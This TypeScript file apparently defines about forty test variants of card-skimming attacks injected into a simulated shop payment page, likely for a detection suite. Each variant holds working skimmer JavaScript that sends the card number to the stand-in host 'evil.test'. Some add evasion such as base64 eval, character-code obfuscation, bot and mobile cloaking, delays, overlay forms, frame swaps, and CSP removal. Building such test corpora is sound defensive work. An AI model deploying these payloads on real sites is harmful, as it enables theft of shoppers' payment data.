import { type Site, sources } from './page.ts'
import { js, type Variant } from './variants.ts'

const number = 'document.querySelector("[name=cardnumber]")'
const later = (code: string) => `addEventListener("load", function () { ${code} });`
const onInput = (send: string) =>
  later(`${number}.addEventListener("input", function (e) { var v = e.target.value; if (v.length > 11) { ${send} } });`)
const b64 = (text: string) => Buffer.from(text).toString('base64')
const codes = (text: string) => [...text].map((character) => character.charCodeAt(0)).join(',')
const shop = (site: Site, added: string) => {
  site.files['shop.test/shop.js'] = js(sources.shopScript('17') + added)
}
const vendor = (site: Site, added: string) => {
  site.files['cdn.vendor.test/ui-4.2.1.min.js'] = js(sources.vendorBundle('4.2.1', 'k1') + added)
}
const inline = (site: Site, text: string) => void site.inline.push(text)

/** Attacks on a payment page, written by us, inert: what they send goes to a host that leads nowhere. */
export const attacks: readonly Variant[] = [
  {
    id: 'inline-fetch',
    about: 'inline script, fetch, plain',
    change: (site) => inline(site, onInput('fetch("http://evil.test/c?n=" + v)')),
  },
  {
    id: 'inline-beacon-json',
    about: 'inline script, beacon with JSON',
    change: (site) => inline(site, onInput('navigator.sendBeacon("http://evil.test/b", JSON.stringify({ n: v }))')),
  },
  {
    id: 'inline-image-base64',
    about: 'image address with base64',
    change: (site) => inline(site, onInput('new Image().src = "http://evil.test/p.gif?d=" + btoa(v)')),
  },
  {
    id: 'inline-xhr-hex',
    about: 'XMLHttpRequest with hex',
    change: (site) =>
      inline(
        site,
        onInput(
          'var h = ""; for (var i = 0; i < v.length; i++) h += v.charCodeAt(i).toString(16); var x = new XMLHttpRequest(); x.open("POST", "http://evil.test/x"); x.send(h)',
        ),
      ),
  },
  {
    id: 'inline-reversed',
    about: 'digits reversed',
    change: (site) =>
      inline(
        site,
        onInput(
          'fetch("http://evil.test/r", { method: "POST", mode: "no-cors", body: v.split("").reverse().join("") })',
        ),
      ),
  },
  {
    id: 'inline-xor',
    about: 'XOR with one byte',
    change: (site) =>
      inline(
        site,
        onInput(
          'var o = ""; for (var i = 0; i < v.length; i++) o += String.fromCharCode(v.charCodeAt(i) ^ 23); fetch("http://evil.test/o", { method: "POST", mode: "no-cors", body: o })',
        ),
      ),
  },
  {
    id: 'inline-split',
    about: 'sent in four pieces',
    change: (site) =>
      inline(
        site,
        later(
          `${number}.addEventListener("blur", function (e) { var v = e.target.value; for (var i = 0; i < 16; i += 4) new Image().src = "http://evil.test/s" + i + "?p=" + v.slice(i, i + 4); });`,
        ),
      ),
  },
  {
    id: 'inline-codes',
    about: 'sent as character codes',
    change: (site) =>
      inline(
        site,
        onInput(
          'fetch("http://evil.test/k?c=" + Array.from(v).map(function (x) { return x.charCodeAt(0); }).join("."))',
        ),
      ),
  },
  {
    id: 'third-party',
    about: 'a further script from a strange host',
    change: (site) => {
      site.head.push('<script src="http://evil.test/a.js"></script>')
      site.files['evil.test/a.js'] = js(onInput('fetch("http://evil.test/c?n=" + v)'))
    },
  },
  {
    id: 'third-party-silent',
    about: 'a strange host serves a script that does nothing yet',
    change: (site) => {
      site.head.push('<script src="http://stats-cdn.test/a.js"></script>')
      site.files['stats-cdn.test/a.js'] = js('window.loaded = Date.now();')
    },
  },
  {
    id: 'tag-manager',
    about: 'the measuring script loads another',
    change: (site) => {
      site.files['metrics.test/m.js'] = js(
        `${sources.metrics('A-1')}var t = document.createElement("script"); t.src = "http://evil.test/t.js"; document.head.appendChild(t);`,
      )
      site.files['evil.test/t.js'] = js(onInput('fetch("http://evil.test/c?n=" + v)'))
    },
  },
  {
    id: 'service-worker',
    about: 'a service worker copies requests',
    change: (site) => {
      site.files['shop.test/sw.js'] = js(
        'self.addEventListener("fetch", function (e) { if (e.request.method === "POST") e.waitUntil(e.request.clone().text().then(function (t) { return fetch("http://evil.test/s", { method: "POST", mode: "no-cors", body: t }); })); });',
      )
      inline(site, 'navigator.serviceWorker && navigator.serviceWorker.register("/sw.js");')
    },
  },
  {
    id: 'websocket',
    about: 'sent over a WebSocket',
    change: (site) =>
      inline(
        site,
        later(
          `var s = new WebSocket("ws://evil.test/w"); ${number}.addEventListener("blur", function (e) { try { s.send(e.target.value); } catch (x) {} fetch("http://evil.test/f?x=" + btoa(e.target.value)).catch(function () {}); });`,
        ),
      ),
  },
  {
    id: 'dns-prefetch',
    about: 'number in the name of a host to look up',
    change: (site) =>
      inline(
        site,
        onInput(
          'var l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + v + ".evil.test"; document.head.appendChild(l)',
        ),
      ),
  },
  {
    id: 'preconnect',
    about: 'number in a preload address',
    change: (site) =>
      inline(
        site,
        onInput(
          'var l = document.createElement("link"); l.rel = "prefetch"; l.href = "http://evil.test/" + btoa(v); document.head.appendChild(l)',
        ),
      ),
  },
  {
    id: 'form-action',
    about: 'the form is sent elsewhere',
    change: (site) => {
      site.formAction = 'http://evil.test/order'
    },
  },
  {
    id: 'form-action-late',
    about: 'a script swaps the form target',
    change: (site) => inline(site, later('document.getElementById("pay").action = "http://evil.test/order";')),
  },
  {
    id: 'button-formaction',
    about: 'the button carries another target',
    change: (site) => {
      site.extra.push('<button form="pay" formaction="http://evil.test/order">Pay now</button>')
    },
  },
  {
    id: 'overlay',
    about: 'a fake form lies over the payment frame',
    change: (site) => {
      site.extra.push(
        '<div id="o" style="position:absolute;left:0;top:150px;width:340px;height:300px;background:#fff;z-index:99"><input placeholder="Card number" name="cc_number"></div>',
      )
    },
  },
  {
    id: 'overlay-script',
    about: 'a script draws the fake form',
    change: (site) =>
      shop(
        site,
        'addEventListener("load", function () { var f = document.querySelector("iframe").getBoundingClientRect(); var d = document.createElement("div"); d.style.cssText = "position:absolute;background:#fff;z-index:9;left:" + f.left + "px;top:" + f.top + "px;width:" + f.width + "px;height:" + f.height + "px"; d.innerHTML = "<input name=pan placeholder=Card>"; document.body.appendChild(d); });',
      ),
  },
  {
    id: 'frame-swap',
    about: 'the payment frame comes from elsewhere',
    change: (site) => {
      site.frameSrc = 'http://evil.test/frame'
      site.files['evil.test/frame'] = { type: 'text/html', body: '<input name="cardnumber">' }
    },
  },
  {
    id: 'frame-swap-late',
    about: 'a script replaces the payment frame',
    change: (site) => inline(site, later('document.querySelector("iframe").src = "http://evil.test/frame";')),
  },
  {
    id: 'srcdoc-frame',
    about: 'a frame made of text asks for the card',
    change: (site) => {
      site.extra.push('<iframe srcdoc="<input name=cardnumber placeholder=Card>" width="300" height="90"></iframe>')
    },
  },
  {
    id: 'cloak-referrer',
    about: 'only for visitors from a search engine',
    change: (site) =>
      inline(site, `if (/google|bing/.test(document.referrer)) { ${onInput('fetch("http://evil.test/c?n=" + v)')} }`),
  },
  {
    id: 'cloak-mobile',
    about: 'only on phones',
    change: (site) =>
      inline(
        site,
        `if (/iPhone|Android/.test(navigator.userAgent)) { ${onInput('fetch("http://evil.test/c?n=" + btoa(v))')} }`,
      ),
  },
  {
    id: 'cloak-devtools',
    about: 'silent for automated browsers',
    change: (site) => inline(site, `if (!navigator.webdriver) { ${onInput('fetch("http://evil.test/c?n=" + v)')} }`),
  },
  {
    id: 'delayed',
    about: 'starts after two minutes',
    change: (site) =>
      inline(
        site,
        later(`setTimeout(function () { fetch("http://evil.test/d?n=" + btoa(${number}.value)); }, 120000);`),
      ),
  },
  {
    id: 'interval',
    about: 'collects every ten seconds',
    change: (site) =>
      inline(
        site,
        later(
          `setInterval(function () { var v = ${number}.value; if (v.length > 11) navigator.sendBeacon("http://evil.test/i", btoa(v)); }, 10000);`,
        ),
      ),
  },
  {
    id: 'on-blur',
    about: 'when the field is left',
    change: (site) =>
      shop(
        site,
        `addEventListener("load", function () { ${number}.onblur = function () { new Image().src = "http://evil.test/l?" + btoa(this.value); }; });`,
      ),
  },
  {
    id: 'on-submit',
    about: 'when pay is pressed',
    change: (site) =>
      shop(
        site,
        'document.getElementById("pay").addEventListener("submit", function (e) { navigator.sendBeacon("http://evil.test/s", new URLSearchParams(new FormData(e.target))); });',
      ),
  },
  {
    id: 'svg-onload',
    about: 'hidden in a picture tag',
    change: (site) => {
      site.extra.push(
        `<svg width="1" height="1" onload="setTimeout(function () { document.querySelector('[name=cardnumber]').addEventListener('blur', function () { fetch('http://evil.test/v?n=' + btoa(this.value)) }) }, 50)"></svg>`,
      )
    },
  },
  {
    id: 'img-onerror',
    about: 'hidden in a broken picture',
    change: (site) => {
      site.extra.push(
        `<img src="/none.png" alt="" onerror="document.querySelector('[name=cardnumber]').addEventListener('blur', function () { fetch('http://evil.test/e?n=' + btoa(this.value)) })">`,
      )
    },
  },
  {
    id: 'vendor-bundle',
    about: "inside the vendor's bundle",
    change: (site) => vendor(site, onInput('navigator.sendBeacon("http://evil.test/v", btoa(v))')),
  },
  {
    id: 'vendor-bundle-quiet',
    about: "in the vendor's bundle, to the vendor's own host",
    change: (site) => vendor(site, onInput('fetch("http://cdn.vendor.test/log?d=" + btoa(v))')),
  },
  {
    id: 'eval-packed',
    about: 'packed in base64 and evaluated',
    change: (site) => inline(site, `eval(atob("${b64(onInput('fetch("http://evil.test/c?n=" + v)'))}"));`),
  },
  {
    id: 'function-codes',
    about: 'built from numbers',
    change: (site) =>
      inline(site, `new Function(String.fromCharCode(${codes(onInput('fetch("http://evil.test/c?n=" + v)'))}))();`),
  },
  {
    id: 'names-split',
    about: 'names put together from pieces',
    change: (site) =>
      inline(
        site,
        later(
          `${number}["addEvent" + "Listener"]("blur", function (e) { window["fe" + "tch"]("http://ev" + "il.test/z?n=" + window["bt" + "oa"](e.target["val" + "ue"])); });`,
        ),
      ),
  },
  {
    id: 'to-storage',
    about: 'kept in the browser for later',
    change: (site) => inline(site, onInput('localStorage.setItem("cache_v2", btoa(v))')),
  },
  {
    id: 'cookie-theft',
    about: 'kept in a cookie that goes to the shop',
    change: (site) => inline(site, onInput('document.cookie = "prefs=" + btoa(v)')),
  },
  {
    id: 'new-fields',
    about: 'the page asks for the PIN too',
    change: (site) => {
      site.cardInputs += '<label>Repeat card number <input name="card_number_2"></label>'
    },
  },
  {
    id: 'csp-lost',
    about: 'the Content-Security-Policy is gone',
    change: (site) => {
      delete site.headers['content-security-policy']
    },
  },
  {
    id: 'csp-opened',
    about: 'the policy lets a strange host in',
    change: (site) => {
      site.headers['content-security-policy'] = site.headers['content-security-policy']!.replace(
        'metrics.test',
        'metrics.test evil.test',
      )
    },
  },
  {
    id: 'frame-options-lost',
    about: 'the page can be framed',
    change: (site) => {
      delete site.headers['x-frame-options']
    },
  },
  {
    id: 'encrypted',
    about: 'encrypted, to a strange host',
    change: (site) =>
      inline(
        site,
        later(
          `${number}.addEventListener("blur", function (e) { crypto.subtle && 0; var v = e.target.value, o = ""; for (var i = 0; i < v.length; i++) o += ((v.charCodeAt(i) * 7 + i * 31) % 256).toString(36); fetch("http://evil.test/q", { method: "POST", mode: "no-cors", body: o }); });`,
        ),
      ),
  },
]
